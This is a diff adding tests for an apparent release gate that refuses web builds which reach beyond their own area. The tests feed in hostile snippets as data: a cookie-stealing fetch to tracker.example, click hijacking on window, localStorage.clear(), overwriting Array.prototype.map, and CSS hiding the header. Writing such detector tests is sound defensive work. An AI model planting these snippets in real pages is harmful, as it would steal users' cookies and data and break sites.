@@ -4,6 +4,7 @@ import { tmpdir } from 'node:os';
 import path from 'node:path';
 import type { HostMetadata, VersionFiles } from '../contracts/src/release/release.ts';
 import { type Candidate, type Refusal, refusalsOf } from '../contracts/src/release/release-gate.ts';
+import { remoteNames } from '../contracts/src/release/remotes.ts';
 import { inspectBuild } from '../contracts/src/server/inspection/inspect-build.ts';
 import { tryImport } from '../scripts/rehearsal/try-import.ts';
 import { changed, fileLike, liveBuild, type RealBuild, replaced, textOf } from './support/real-build.ts';
@@ -36,6 +37,10 @@ it('lets a real build pass, as every start of a site does with all areas', () =>
   expect(refusalsOf(live, { hosts: [host], live })).toEqual([]);
 });
 
+it.each(remoteNames)('sees %s keep to itself', async (name) => {
+  expect(candidateOf(await liveBuild(name)).metadata.pageEffects).toEqual([]);
+});
+
 it('refuses a build without two of its screens', () => {
   expect(checks(refusals(replaced(catalog, exposed, /path:"\/(contact|courseDetail)"/, 'path:void 0')))).toEqual([
     expect.stringMatching('^paths: /contact is gone'),
@@ -66,6 +71,23 @@ it.each([
 it('refuses requests to a stranger', () => {
   expect(checks(refusals(appended("fetch('https://tracker.example/'+document.cookie)")))).toEqual([
     'connections: Its code sends requests to https://tracker.example, which it does not declare.',
+  ]);
+});
+
+it.each([
+  [
+    "window.addEventListener('click',e=>e.stopImmediatePropagation(),true)",
+    'listens to click on window in the capture',
+  ],
+  ['localStorage.clear()', 'empties localStorage'],
+  ['Array.prototype.map=function(){return []}', 'changes Array.prototype.map'],
+])('refuses what reaches every area and throws nothing: `%s`', (code, what) => {
+  expect(checks(refusals(appended(code)))).toEqual([expect.stringContaining(`isolation: It ${what}`)]);
+});
+
+it('refuses a style sheet that hides the header', () => {
+  expect(checks(refusals(changed(catalog, 'late.css', 'header{display:none}')))).toEqual([
+    "isolation: It styles 'header', which is not its own.",
   ]);
 });
 
